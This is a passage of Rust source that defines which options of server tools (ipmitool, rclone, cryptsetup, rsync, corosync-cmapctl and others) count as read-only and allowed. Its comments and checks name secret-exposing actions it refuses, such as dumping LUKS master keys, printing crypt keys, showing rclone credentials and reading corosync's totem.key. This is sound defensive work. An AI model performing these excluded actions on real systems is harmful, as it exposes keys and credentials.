/// The cluster's status words (`health detail`, `df detail`; not `health
/// mute CODE`, which silences an alert; blind corpus 82).
const CEPH_STATUS: Spec = Spec {
    operands: Operands::Names {
        at_most: 1,
        test: |w| w == "detail",
    },
    ..CEPH_WORDS
};

/// numactl(8), numactl 2.0: `--hardware` (the nodes, their CPUs and
/// memory) and `--show` (this process's policy). Any other option sets a
/// policy for a command it then runs: left out.
const NUMACTL: Spec = Spec {
    flags: "Hs",
    long: &["hardware", "show"],
    operands: Operands::None,
    ..Spec::GNU
};

/// ipmitool(1), ipmitool 1.8.19: the sensor readings, the SDR and FRU
/// records, the chassis and controller status, the event log, the BMC's
/// LAN settings, through the local interface or a BMC on the LAN (`-I
/// lan|lanplus -H HOST -U USER`, the password from `IPMI_PASSWORD` by
/// `-E`; the host judged where it sends data; blind corpus 161). Not
/// `-P` (a password written out), `-f`, `-k`, `-K`, `-y`, `-Y` (files and
/// keys), `-v`, nor `chassis power`, `sel clear`, `user set`, `raw`, `lan set`,
/// `mc reset`.
const IPMITOOL: Spec = Spec {
    // (Not `-v`: three print the session's keys, the password's among
    // them; review 115.)
    flags: "cE",
    valued: "IHULpCNR",
    checked: &[("I", |v| matches!(v, "open" | "lan" | "lanplus"))],
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "sensor",
                spec: Some(&IPMITOOL_SENSOR_ALL),
            },
            Verb {
                names: "sdr",
                spec: Some(&IPMITOOL_SDR),
            },
            Verb {
                names: "sel",
                spec: Some(&IPMITOOL_SEL),
            },
            // (Not `lan print`: it shows the BMC's SNMP community; review
            // 115.)
            Verb {
                names: "fru",
                spec: Some(&IPMITOOL_PRINT),
            },
            Verb {
                names: "chassis",
                spec: Some(&IPMITOOL_CHASSIS),
            },
            Verb {
                names: "mc",
                spec: Some(&IPMITOOL_MC),
            },
            Verb {
                names: "dcmi",
                spec: Some(&IPMITOOL_DCMI),
            },
            Verb {
                names: "user",
                spec: Some(&IPMITOOL_USER),
            },
            Verb {
                names: "channel",
                spec: Some(&IPMITOOL_CHANNEL),
            },
            Verb {
                names: "sol",
                spec: Some(&IPMITOOL_SOL),
            },
            Verb {
                names: "session",
                spec: Some(&IPMITOOL_SESSION),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};

// One of the verbs, then at most one plain word (a record type, an id,
// a channel).
// (`sensor get NAME…`: the named sensors' readings.)
const IPMITOOL_SENSOR_GET: Spec = Spec {
    operands: Operands::AtMost(16),
    ..Spec::POSIX
};
const IPMITOOL_SENSOR_ALL: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "list",
                spec: Some(&IPMITOOL_OPERAND),
            },
            Verb {
                names: "get|reading",
                spec: Some(&IPMITOOL_SENSOR_GET),
            },
        ],
        bare_ok: true,
    },
    ..Spec::POSIX
};
// `dcmi power reading`, `dcmi discover`; `user list [CHANNEL]`, `user
// summary` (names and privileges, no password); blind corpus 47.
verbs_then!(IPMITOOL_DCMI, "power|discover", IPMITOOL_DCMI_POWER, true);
verbs_then!(IPMITOOL_DCMI_POWER, "reading", IPMITOOL_OPERAND, true);
verbs_then!(IPMITOOL_USER, "list|summary", IPMITOOL_OPERAND, false);
// (`sdr type SENSOR_TYPE`, `sdr info`: the records of one type, the
// repository's summary.)
verbs_then!(
    IPMITOOL_SDR,
    "list|elist|type|info|get",
    IPMITOOL_OPERAND,
    true
);
// (`sel list|elist [first|last N]`: the first or last records.)
// (`sel get ID…`: those records; `sel time get`: the log's clock.)
const IPMITOOL_SEL: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "list|elist|info",
                spec: Some(&IPMITOOL_RANGE),
            },
            Verb {
                names: "get",
                spec: Some(&IPMITOOL_IDS),
            },
            Verb {
                names: "time",
                spec: Some(&IPMITOOL_GET),
            },
        ],
        bare_ok: true,
    },
    ..Spec::POSIX
};
verbs_then!(IPMITOOL_GET, "get", IPMITOOL_NONE, false);
const IPMITOOL_IDS: Spec = Spec {
    operands: Operands::Names {
        at_most: 16,
        test: |w| {
            let digits = w.strip_prefix("0x").unwrap_or(w);
            !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_hexdigit())
        },
    },
    ..Spec::POSIX
};
const IPMITOOL_NONE: Spec = Spec {
    operands: Operands::None,
    ..Spec::POSIX
};
// (`channel info [N]`, `channel getaccess N [UID]`: a channel's settings
// and a user's rights on it; `sol info [N]`: Serial-over-LAN's settings;
// `session info active|all`: who is logged in to the BMC. None prints a
// password or a community; blind corpus 211.)
verbs_then!(IPMITOOL_CHANNEL, "info|getaccess", IPMITOOL_RANGE, false);
verbs_then!(IPMITOOL_SOL, "info", IPMITOOL_OPERAND, false);
verbs_then!(IPMITOOL_SESSION, "info", IPMITOOL_OPERAND, false);
const IPMITOOL_RANGE: Spec = Spec {
    operands: Operands::AtMost(2),
    ..Spec::POSIX
};
// (`fru` alone is `fru print`.)
verbs_then!(IPMITOOL_PRINT, "print", IPMITOOL_OPERAND, true);
// (`chassis power status`: the power state, read; `restart_cause`, and
// `bootparam get N`: one boot parameter; blind corpus 211.)
const IPMITOOL_CHASSIS: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "status|power",
                spec: Some(&IPMITOOL_POWER_STATUS),
            },
            Verb {
                names: "restart_cause",
                spec: Some(&IPMITOOL_NONE),
            },
            Verb {
                names: "bootparam",
                spec: Some(&IPMITOOL_BOOTPARAM),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};
verbs_then!(IPMITOOL_BOOTPARAM, "get", IPMITOOL_OPERAND, false);
const IPMITOOL_POWER_STATUS: Spec = Spec {
    operands: Operands::Names {
        at_most: 1,
        test: |w| w == "status",
    },
    ..Spec::POSIX
};
// (`mc guid`, `mc getenables`, `mc selftest` (the last test's result,
// read: Get Self Test Results), `mc watchdog get`.)
const IPMITOOL_MC: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "info|guid|getenables|selftest",
                spec: Some(&IPMITOOL_OPERAND),
            },
            Verb {
                names: "watchdog",
                spec: Some(&IPMITOOL_GET),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};

const IPMITOOL_OPERAND: Spec = Spec {
    operands: Operands::AtMost(1),
    ..Spec::POSIX
};

/// chronyc(1), chrony 4.3: the reports (`-n`, `-c`, `-h HOST` other than
/// loopback are left out: `-h` reaches another daemon).
const CHRONYC: Spec = Spec {
    // (`-a`: ignored, kept for compatibility, chrony 4; blind corpus 213.)
    flags: "nca",
    // (`-h HOST`: judged where it sends data; blind corpus 94.)
    valued: "h",
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "tracking|sources|sourcestats|activity|serverstats|rtcdata|selectdata|\
                        authdata|clients",
                spec: Some(&CHRONYC_WORDS),
            },
            // (A source by its address: a name would be looked up, the
            // resolver asked outside the lab; review 88.)
            Verb {
                names: "ntpdata",
                spec: Some(&CHRONYC_ADDRESS),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};
const CHRONYC_ADDRESS: Spec = Spec {
    operands: Operands::Names {
        at_most: 1,
        test: |w| w.parse::<std::net::IpAddr>().is_ok(),
    },
    ..CHRONYC_WORDS
};

/// lldpctl(8), lldpd 1.0: `show` (neighbors, interfaces, chassis,
/// statistics, configuration) and the bare command (its neighbours). Not
/// `-c FILE` (commands from a file), `-u SOCKET`, nor `configure`.
const LLDPCTL: Spec = Spec {
    flags: "dv",
    valued: "f",
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "show",
            spec: Some(&PLAIN_WORDS),
        }],
        bare_ok: true,
    },
    ..Spec::POSIX
};

/// lldpcli(8): the same, but bare it reads commands from its input
/// (`configure` among them; thirty-seventh review): `show` only.
const LLDPCLI: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "show",
            spec: Some(&PLAIN_WORDS),
        }],
        bare_ok: false,
    },
    ..LLDPCTL
};

/// checkrestart(1), debian-goodies 0.88: the processes that still use
/// deleted libraries (it restarts nothing). Not `-b FILE`/`-i NAME`.
const CHECKRESTART: Spec = Spec {
    flags: "hvtpamf",
    operands: Operands::None,
    ..Spec::POSIX
};

/// pg_restore(1), PostgreSQL 15: `-l`/`--list`, the archive's table of
/// contents (object names, never rows). Without it the archive's SQL,
/// its data included, goes to standard output, or into a database with
/// `-d`: not listed, nor `-f FILE`.
const PG_RESTORE: Spec = Spec {
    flags: "lv",
    valued: "F",
    long: &["list", "verbose"],
    long_valued: &["format"],
    operands: Operands::AtMost(1),
    ..Spec::GNU
};

/// acme.sh 3: `--list` (the certificates it manages and their dates),
/// `--version`, `--help`. Not `--info` (a domain's saved settings) nor
/// anything that issues, renews, installs or runs hooks.
const ACME_SH: Spec = Spec {
    flags: "vh",
    long: &["list", "version", "help", "listraw"],
    operands: Operands::None,
    ..Spec::GNU
};

/// lzop(1) 1.04: an archive tested (`-t`) or listed (`-l`), nothing
/// written or printed of its contents (blind corpus 160); the rules of
/// secret files judge the archives named. Not `-d`, `-c`, `-x`, `-U`.
const LZOP: Spec = Spec {
    flags: "tlvqhV",
    long: &["test", "list", "verbose", "quiet", "help", "version"],
    required: &["t", "l", "test", "list", "V", "version", "h", "help"],
    operands: Operands::Read,
    abbrev: false,
    ..Spec::GNU
};

/// sanoid(8) 2.2: its version and help. Not the monitoring checks: every
/// run refreshes its cache of datasets and snapshots under
/// `/var/cache/sanoid` when it is stale, `--monitor-health` and
/// `--monitor-capacity` included (review 117); nor anything that takes or
/// prunes snapshots.
const SANOID: Spec = Spec {
    long: &["version", "help"],
    required: &["version", "help"],
    operands: Operands::None,
    abbrev: false,
    ..Spec::GNU
};

/// syncoid(8) 2.2: its help and version only (anything else replicates).
const SYNCOID: Spec = Spec {
    long: &["help", "version"],
    required: &["help", "version"],
    operands: Operands::None,
    abbrev: false,
    ..Spec::GNU
};

/// aa-enabled(1), AppArmor 3: whether AppArmor is enabled.
const AA_ENABLED: Spec = Spec {
    flags: "qh",
    long: &["quiet", "help"],
    operands: Operands::None,
    ..Spec::GNU
};

/// apt-file(1) 3.3: which packages hold a file, a package's files, from
/// the indexes already downloaded (`apt-file update` fetches them).
const APT_FILE_SEARCH: Spec = Spec {
    flags: "xiIlFv",
    long: &[
        "regexp",
        "ignore-case",
        "package-only",
        "fixed-string",
        "verbose",
        "substring-match",
    ],
    operands: Operands::AtMost(1),
    abbrev: false,
    ..Spec::GNU
};

const APT_FILE: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "search|find|list|show",
            spec: Some(&APT_FILE_SEARCH),
        }],
        bare_ok: false,
    },
    ..Spec::GNU
};

/// A server's version, asked of its binary (`mongod --version`,
/// `redis-server --version`): without `--version` it starts the server.
const SERVER_VERSION: Spec = Spec {
    long: &["version"],
    required: &["version"],
    operands: Operands::None,
    abbrev: false,
    ..Spec::GNU
};

/// rclone(1) 1.60: `listremotes` (the remotes' names, `--long` their
/// types), `version`, `config file`/`config paths` (where the files
/// are). Not `config show` (the credentials), nor anything that reaches a
/// remote, nor `--config FILE`.
const RCLONE: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "listremotes",
                spec: Some(&RCLONE_LISTREMOTES),
            },
            Verb {
                names: "version",
                spec: Some(&NO_WORDS),
            },
            Verb {
                names: "config",
                spec: Some(&RCLONE_CONFIG),
            },
            Verb {
                names: "size|ls|lsl|lsd|lsf|lsjson|tree|check",
                spec: Some(&RCLONE_LOCAL),
            },
            // (Hashes of every file under a folder: not of one that holds
            // secrets, `/etc/pve`'s clear-text storage passwords; review
            // 117.)
            Verb {
                names: "hashsum|md5sum|sha1sum",
                spec: Some(&RCLONE_HASHES),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};

/// rclone's listings, sizes, sums and comparisons of folders on this
/// machine only (`rclone size /mnt/pve/nas-backup/dump`, `rclone check
/// /var/lib/vz/dump /mnt/pve/nas/dump --one-way`; blind corpus 160):
/// names, sizes and hashes, no contents (not `cat`, `check --download`
/// reads them only to compare). A word with a `:` not under `/` or `./`
/// is a remote's (rclone's own reading): refused. Not `--combined FILE`
/// and the other report files but `-`.
const RCLONE_LOCAL: Spec = Spec {
    flags: "qvR",
    long: &[
        "one-way",
        "size-only",
        "fast-list",
        "human-readable",
        "json",
        "recursive",
        "dirs-only",
        "files-only",
        "no-traverse",
        "quiet",
        "verbose",
        "help",
    ],
    long_valued: &[
        "max-depth",
        "min-size",
        "max-size",
        "min-age",
        "max-age",
        "include",
        "exclude",
        "format",
        "combined",
        "missing-on-src",
        "missing-on-dst",
        "match",
        "differ",
        "error",
        "separator",
    ],
    checked: &[
        // (`--format`'s `h` adds each file's hash.)
        ("format", |v| !v.contains('h')),
        ("combined", |v| v == "-"),
        ("missing-on-src", |v| v == "-"),
        ("missing-on-dst", |v| v == "-"),
        ("match", |v| v == "-"),
        ("differ", |v| v == "-"),
        ("error", |v| v == "-"),
    ],
    operands: Operands::Names {
        at_most: 3,
        test: |w| {
            (w.starts_with('/') || w.starts_with("./") || w.starts_with("../"))
                || (!w.starts_with('-') && !w.contains([':', '/']) && is_hash_name(w))
        },
    },
    abbrev: false,
    ..Spec::GNU
};

const RCLONE_HASHES: Spec = Spec {
    operands: Operands::Names {
        at_most: 2,
        test: |w| {
            ((w.starts_with('/') || w.starts_with("./") || w.starts_with("../"))
                && !crate::secret_paths::folder_holds_secrets(w)
                && !crate::secret_paths::names_secret(w, false))
                || (!w.starts_with('-') && !w.contains([':', '/']) && is_hash_name(w))
        },
    },
    ..RCLONE_LOCAL
};

/// `rclone hashsum HASH PATH`'s hash names.
fn is_hash_name(word: &str) -> bool {
    matches!(
        word.to_ascii_lowercase().as_str(),
        "md5"
            | "sha1"
            | "sha256"
            | "sha512"
            | "crc32"
            | "whirlpool"
            | "quickxor"
            | "blake3"
            | "xxh3"
            | "xxh128"
    )
}

const RCLONE_LISTREMOTES: Spec = Spec {
    long: &["long", "json"],
    operands: Operands::None,
    ..Spec::GNU
};

verbs_then!(RCLONE_CONFIG, "file|paths", NO_WORDS, false);

/// aa-status(8), AppArmor 3.0: which profiles are loaded and in which
/// mode, and which processes they confine.
const AA_STATUS: Spec = Spec {
    flags: "v",
    long: &[
        "enabled",
        "profiled",
        "enforced",
        "complaining",
        "kill",
        "special-unconfined",
        "process-mixed",
        "json",
        "pretty-json",
        "verbose",
        "help",
        "count",
    ],
    long_valued: &[
        "show",
        "filter.mode",
        "filter.profiles",
        "filter.pid",
        "filter.exe",
    ],
    operands: Operands::None,
    ..Spec::GNU
};

/// cscli(1), CrowdSec 1.6: the listings (decisions, alerts, bouncers,
/// machines, the hub's items), the metrics and the API's status. Not
/// `-c FILE` (another configuration), nor any verb that adds, deletes,
/// installs or upgrades.
const CSCLI: Spec = Spec {
    valued: "o",
    long: &["no-color", "debug", "info", "warning", "error", "trace"],
    long_valued: &["output", "color"],
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "decisions|alerts|bouncers|machines|collections|parsers|scenarios|\
                        postoverflows|contexts|appsec-configs|appsec-rules|hub",
                spec: Some(&CSCLI_LIST),
            },
            Verb {
                names: "metrics",
                spec: Some(&CSCLI_METRICS),
            },
            Verb {
                names: "version",
                spec: Some(&NO_WORDS),
            },
            // (Not `capi status`: it asks api.crowdsec.net.)
            Verb {
                names: "lapi",
                spec: Some(&CSCLI_STATUS),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};

/// A cscli listing's own options (not the global ones after the verb:
/// `-c FILE`, `--url`).
const CSCLI_LIST_WORDS: Spec = Spec {
    flags: "a",
    valued: "o",
    long: &["all", "no-color", "contained", "no-simu"],
    long_valued: &[
        "output", "since", "until", "ip", "range", "type", "scope", "value", "scenario", "origin",
        "limit", "machine",
    ],
    ..Spec::POSIX
};
const CSCLI_METRICS: Spec = Spec {
    valued: "o",
    long: &["no-unit"],
    long_valued: &["output"],
    operands: Operands::AtMost(2),
    ..Spec::POSIX
};
verbs_then!(CSCLI_LIST, "list|inspect", CSCLI_LIST_WORDS, false);
verbs_then!(CSCLI_STATUS, "status", NO_WORDS, false);

/// mosquitto_sub(1), Mosquitto 2.0: a few messages of a topic (`-C N`,
/// `-W SECS`), from a broker `-h` names (checked as any host is). Not
/// `-L URL`, `--will-*`, the TLS or proxy options, nor `-P PASSWORD`
/// written out (a password on the command line, which other users' `ps`
/// shows); `-P "$VAR"` gives the broker the password the environment
/// holds, as curl's `-H "X-Api-Key: $KEY"` does (blind corpus 164).
const MOSQUITTO_SUB: Spec = Spec {
    flags: "vdNR",
    // (Not `-i`/`--id`: a client id in use takes over that client's
    // session; thirty-seventh review.)
    valued: "htCWpqkuP",
    long: &["verbose", "debug", "retained-only", "pretty"],
    long_valued: &[
        "host",
        "topic",
        "port",
        "qos",
        "keepalive",
        "username",
        "filter-out",
        "pw",
        // (A CA's certificate to check the broker's: public.)
        "cafile",
        "capath",
    ],
    checked: &[("P", password_variable), ("pw", password_variable)],
    checks_expansions: &["P", "pw"],
    operands: Operands::None,
    ..Spec::GNU
};

/// A password given as one variable's value in double quotes (`"$PASS"`).
pub(super) fn password_variable(value: &str) -> bool {
    value.starts_with("\"$") && value.ends_with('"') && super::quoted_plain_expansions(value)
}

/// apcaccess(8), apcupsd 3.14: the UPS's status, from the daemon `-h
/// HOST[:PORT]` names (checked as any host is).
const APCACCESS: Spec = Spec {
    flags: "u",
    valued: "hpf",
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "status",
            spec: Some(&NO_WORDS),
        }],
        bare_ok: true,
    },
    ..Spec::POSIX
};

/// smbclient(1), Samba 4.17: `-L HOST` lists a server's shares
/// (anonymously with `-N`). Not a share's shell, `-c` commands, `-U`
/// (a password), `-A FILE` (credentials).
const SMBCLIENT: Spec = Spec {
    flags: "Ng",
    valued: "Lp",
    long: &["no-pass", "grepable"],
    long_valued: &["list", "port"],
    // (A server, checked as any host is: `HOST`, `//HOST`, `\\\\HOST\\x`.)
    checked: &[("L", plain_server), ("list", plain_server)],
    operands: Operands::None,
    ..Spec::GNU
};

fn plain_server(value: &str) -> bool {
    let host = smb_query_host(value);
    !host.is_empty() && !host.contains(['@', '%'])
}

/// The server `smbclient -L VALUE` queries, as Samba's client reads it
/// (source3/client/client.c): leading `/` and `\\` skipped, cut at the
/// next one, and at a NetBIOS name type (`nas#20`).
pub(crate) fn smb_query_host(value: &str) -> &str {
    let host = value.trim_start_matches(['/', '\\']);
    let host = host.split(['/', '\\']).next().unwrap_or(host);
    host.split('#').next().unwrap_or(host)
}

/// unbound-control(8), unbound 1.17: the listings and counters read
/// without resetting them (`stats` resets: not listed), the cache
/// dumped. Not `-c` of a file outside its folder (another configuration:
/// another server and keys) nor `-s SERVER` (another host).
const UNBOUND_CONTROL: Spec = Spec {
    flags: "q",
    valued: "c",
    checked: &[("c", unbound_config)],
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "status|stats_noreset|list_stubs|list_forwards|list_insecure|\
                    list_auth_zones|list_local_zones|list_local_data|get_option|lookup|\
                    dump_infra|dump_requestlist|ratelimit_list|ip_ratelimit_list|\
                    view_list_local_zones|view_list_local_data|dump_cache",
                spec: Some(&PLAIN_WORDS),
            },
            // (`forward` alone prints the forwarders; with addresses or `off`
            // it sets them; blind corpus 117.)
            Verb {
                names: "forward",
                spec: Some(&NOTHING_MORE),
            },
        ],
        bare_ok: false,
    },
    ..Spec::POSIX
};

/// Unbound's configuration in its own folder, written plainly.
fn unbound_config(value: &str) -> bool {
    // (pfSense and OPNsense keep it under /var/unbound; blind corpus 192.)
    (value.starts_with("/etc/unbound/") || value.starts_with("/var/unbound/"))
        && value.ends_with(".conf")
        && plain_path(value)
}

const NOTHING_MORE: Spec = Spec {
    operands: Operands::None,
    ..Spec::POSIX
};

const PLAIN_WORDS: Spec = Spec {
    operands: Operands::Read,
    ..Spec::POSIX
};

const CHRONYC_WORDS: Spec = Spec {
    // (`sources -a`: the sources without an address yet too.)
    flags: "va",
    ..Spec::POSIX
};

/// cryptsetup(8) 2.6: headers and status, never keys (`--dump-master-key`,
/// `--dump-volume-key` left out).
const CRYPTSETUP: Spec = Spec {
    flags: "v",
    long: &["verbose", "debug-json"],
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "luksDump|status|isLuks|luksUUID|tcryptDump|bitlkDump",
            spec: Some(&CRYPTSETUP_WORDS),
        }],
        bare_ok: false,
    },
    ..Spec::GNU
};

const CRYPTSETUP_WORDS: Spec = Spec {
    flags: "v",
    long: &["verbose", "debug"],
    operands: Operands::AtMost(1),
    ..Spec::GNU
};

/// conntrack(8), conntrack-tools 1.4.7: the listing commands (`-L`,
/// `-G`, `-E`, `-C`, `-S`; `-E` lists events until stopped, as `tail -f`) with their filters, and a table name (`-L
/// expect`). Not `-z` (zeroes the counters it lists), `-D`, `-F` (lose
/// entries: `rules::loss`), `-I`, `-U`, `-A`, `-R` (add or change them).
const CONNTRACK: Spec = Spec {
    flags: "LGECSh",
    valued: "sdrqptmlcueofbw",
    optional: "ngj",
    long: &["dump", "get", "event", "count", "stats", "help", "version"],
    long_valued: &[
        "src",
        "dst",
        "orig-src",
        "orig-dst",
        "reply-src",
        "reply-dst",
        "proto",
        "timeout",
        "mark",
        "label",
        "secmark",
        "status",
        "event-mask",
        "output",
        "family",
        "buffer-size",
        "zone",
        "orig-zone",
        "reply-zone",
        "sport",
        "dport",
        "orig-port-src",
        "orig-port-dst",
        "reply-port-src",
        "reply-port-dst",
        "state",
        "icmp-type",
        "icmp-code",
        "icmp-id",
        "mask-src",
        "mask-dst",
    ],
    long_optional: &["src-nat", "dst-nat", "any-nat"],
    required: &[
        "L", "G", "E", "C", "S", "dump", "get", "event", "count", "stats", "h", "help", "version",
    ],
    operands: Operands::AtMost(1),
    ..Spec::GNU
};

/// ethtool(8) 6.1: the `--show-*` queries and their short forms; not
/// `-s`, `-K`, `-G`, `-A`, `-C`, `-L`, `-r`, `-f`, `-E`, `-p`, `--reset`.
const ETHTOOL: Spec = Spec {
    // Not `-t`: the self-test takes the link down.
    // (`-x`: the receive hash's indirection table shown; review 134.)
    // (`-n`/`-u`, the flow rules; `-I`, statistics with the rest; `-d`,
    // `-e`, a register and EEPROM dump: shown, nothing set; review 139.)
    flags: "iSkgaclTmPhxnuIde",
    long: &[
        "show-priv-flags",
        "show-nfc",
        "show-ntuple",
        "show-tunnels",
        "show-mm",
        "show-plca",
        "include-statistics",
        "phy-statistics",
        "register-dump",
        "eeprom-dump",
        "show-rxfh-indir",
        "show-rxfh",
        "driver",
        "statistics",
        "show-features",
        "show-ring",
        "show-pause",
        "show-coalesce",
        "show-channels",
        "show-time-stamping",
        "module-info",
        "show-permaddr",
        "show-eee",
        "show-fec",
        "json",
        "help",
        "version",
    ],
    operands: Operands::AtMost(1),
    ..Spec::GNU
};

/// mapfile/readarray (bash 5.2 builtin): read lines into an array; not
/// `-C` (runs a callback) or `-u` (another descriptor); the rules refuse
/// a name with a subscript.
const MAPFILE: Spec = Spec {
    flags: "t",
    valued: "dnOs",
    operands: Operands::AtMost(1),
    ..Spec::ORDERED
};

/// badblocks(8), e2fsprogs 1.47.0: the default read-only test; not `-w`
/// or `-n` (they write), `-o` (writes its list).
const BADBLOCKS: Spec = Spec {
    flags: "svfB",
    valued: "bcdeipt",
    ..Spec::POSIX
};

/// ifquery(8), ifupdown 0.8: what an interface's configuration says.
const IFQUERY: Spec = Spec {
    // ifupdown2's `-c`/`--check` (the file against the running state) and
    // `-r`/`--running` only read.
    flags: "avcr",
    valued: "xo",
    long: &[
        "all",
        "list",
        "verbose",
        "allow",
        "check",
        "running",
        "with-depends",
    ],
    // (ifupdown2's `--print-dependency list|dot`, `-o`/`--format
    // native|json`, `-x`/`--exclude IFACE`; blind corpus 110.)
    long_valued: &["print-dependency", "format", "exclude"],
    ..Spec::GNU
};

/// ifreload(8), ifupdown2 3.2: `-s`/`--syntax-check` only parses the
/// interfaces file, `-n`/`--no-act` prints what it would do (review 134;
/// without either, `rules::programs` judges the reload).
const IFRELOAD: Spec = Spec {
    flags: "acvsn",
    long: &["all", "currently-up", "verbose", "syntax-check", "no-act"],
    required: &["s", "syntax-check", "n", "no-act"],
    operands: Operands::None,
    ..Spec::GNU
};

/// ifup(8), ifupdown 0.8 and ifupdown2: `-n`/`--no-act` prints what it
/// would run and runs nothing.
const IFUP: Spec = Spec {
    flags: "anv",
    long: &["all", "no-act", "verbose"],
    required: &["n", "no-act"],
    operands: Operands::Read,
    ..Spec::GNU
};

/// dmsetup(8), lvm2 2.03: listings; not `remove*`, `create`, `load`,
/// `suspend`, `resume`, `message`, `wipe_table`.
const DMSETUP: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "ls|info|table|status|deps|version|targets|splitname",
            spec: Some(&DMSETUP_READ),
        }],
        bare_ok: false,
    },
    ..Spec::POSIX
};

/// dmsetup(8), lvm2 2.03.16: the listing options of `ls` (`--tree`,
/// `--target`), `info` (`-c` columns and their layout) and `deps` (`-o`
/// device name forms). Not `--exec` (runs a program for each device) nor
/// `--showkeys` (prints crypt targets' keys).
const DMSETUP_READ: Spec = Spec {
    flags: "cCv",
    valued: "o",
    long: &[
        "tree",
        "columns",
        "noheadings",
        "nameprefixes",
        "rows",
        "unquoted",
        "verbose",
    ],
    long_valued: &["target", "separator", "sort", "options"],
    ..Spec::GNU
};

/// rsync(1) 3.2.7: what it may do under `-n`/`--dry-run` or
/// `--list-only` (the rules require one of them for read-only); not `-e`,
/// `--rsh`, `--rsync-path`, `--remove-source-files`, `--backup-dir`,
/// `--log-file`, `--write-batch`, `--daemon`, `--config`.
const RSYNC: Spec = Spec {
    flags: "avnrlptgoDhPiHAXSzqcuWxm",
    long: &[
        "dry-run",
        "list-only",
        "archive",
        "verbose",
        "recursive",
        "links",
        "perms",
        "times",
        "group",
        "owner",
        "devices",
        "specials",
        "human-readable",
        "itemize-changes",
        "stats",
        "delete",
        "delete-after",
        "delete-before",
        "delete-during",
        "delete-excluded",
        "checksum",
        "compress",
        "progress",
        "partial",
        "hard-links",
        "acls",
        "xattrs",
        "sparse",
        "numeric-ids",
        "one-file-system",
        "prune-empty-dirs",
        "update",
        "existing",
        "ignore-existing",
        "size-only",
        "quiet",
        // (Blind corpus 214: the daemon's message of the day left out.)
        "no-motd",
    ],
    long_valued: &[
        "exclude",
        "include",
        "filter",
        "exclude-from",
        "include-from",
        "max-size",
        "min-size",
        // (Blind corpus 214: how each changed file is printed, which
        // messages, and how long to wait.)
        "out-format",
        "info",
        "timeout",
        "contimeout",
    ],
    ..Spec::GNU
};

#[rustfmt::skip]
/// numastat(8), numactl 2.0.16: per-node memory statistics; `-p`
/// (and operands) select processes by PID or name, whose `numa_maps` it
/// reads.
const NUMASTAT: Spec = Spec {
    flags: "cmnvVz",
    valued: "p",
    optional: "s",
    operands: Operands::Read,
    ..Spec::GNU
};

/// systemd-cgtop(1), systemd 252: control groups by resource use. Left
/// out: `-M` (another machine's).
const SYSTEMD_CGTOP: Spec = Spec {
    flags: "ptcmibrPk1h",
    valued: "nd",
    long: &["batch", "raw", "help", "version"],
    long_valued: &["order", "recursive", "iterations", "delay", "depth"],
    long_optional: &["cpu"],
    operands: Operands::AtMost(1),
    ..Spec::GNU
};

/// corosync-cmapctl(8), corosync 3.1: the keys under each prefix named
/// (`-g KEY`: one key's value; `-b`: binary values too; `-m icmap|stats`:
/// which map). A line without a prefix lists every key, a shared key
/// written inline in corosync.conf (`totem.key`) among them: the rules
/// ask for one, and no prefix may reach that key. Left out: `-s`, `-d`,
/// `-D` (set and delete keys), `-p` (loads a file of changes), `-t`/`-T`
/// (track changes until stopped).
const COROSYNC_CMAPCTL: Spec = Spec {
    // (`-q`: the values alone, without their keys and types.)
    flags: "bghq",
    valued: "m",
    checked: &[("m", |m| matches!(m, "icmap" | "stats"))],
    operands: Operands::Names {
        at_most: 16,
        test: cmap_prefix,
    },
    other: &Other {
        flags: "sdDtT",
        valued: "p",
        ..Other::NONE
    },
    ..Spec::GNU
};

/// A cmap key or prefix (`runtime.votequorum`, `nodelist.node.0`) that
/// cannot reach `totem.key`.
fn cmap_prefix(word: &str) -> bool {
    !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
        && !"totem.key".starts_with(word)
        && !word.starts_with("totem.key")
}

/// smem(8), smem 1.5: memory by process, user or mapping (reads
/// `/proc/*/smaps`). Not `--pie`/`--bar` (draw a chart, a window or a
/// file), nor `-S`/`--source` (reads a capture file of any name).
const SMEM: Spec = Spec {
    flags: "hrtkumwpnaH",
    valued: "csPMU",
    long: &[
        "help",
        "reverse",
        "totals",
        "abbreviate",
        "users",
        "mappings",
        "system",
        "percent",
        "numeric",
        "autosize",
        "no-header",
    ],
    long_valued: &[
        "columns",
        "sort",
        "processfilter",
        "mapfilter",
        "userfilter",
    ],
    operands: Operands::None,
    ..Spec::GNU
};

/// `cpupower frequency-info`: frequencies, governors, limits (sysfs).
const CPUPOWER_FREQUENCY: Spec = Spec {
    flags: "eagpdlfwsyomn",
    long: &[
        "debug",
        "hwfreq",
        "freq",
        "hwlimits",
        "driver",
        "policy",
        "governors",
        "related-cpus",
        "affected-cpus",
        "stats",
        "latency",
        "proc",
        "human",
        "no-rounding",
    ],
    operands: Operands::None,
    ..Spec::GNU
};

/// `cpupower idle-info`: the idle states (sysfs).
const CPUPOWER_IDLE: Spec = Spec {
    flags: "fe",
    long: &["silent", "proc"],
    operands: Operands::None,
    ..Spec::GNU
};

/// cpupower(1), linux-cpupower 6.1: `frequency-info` and `idle-info`.
/// Not `frequency-set`, `idle-set`, `set`, nor `info` and `monitor`
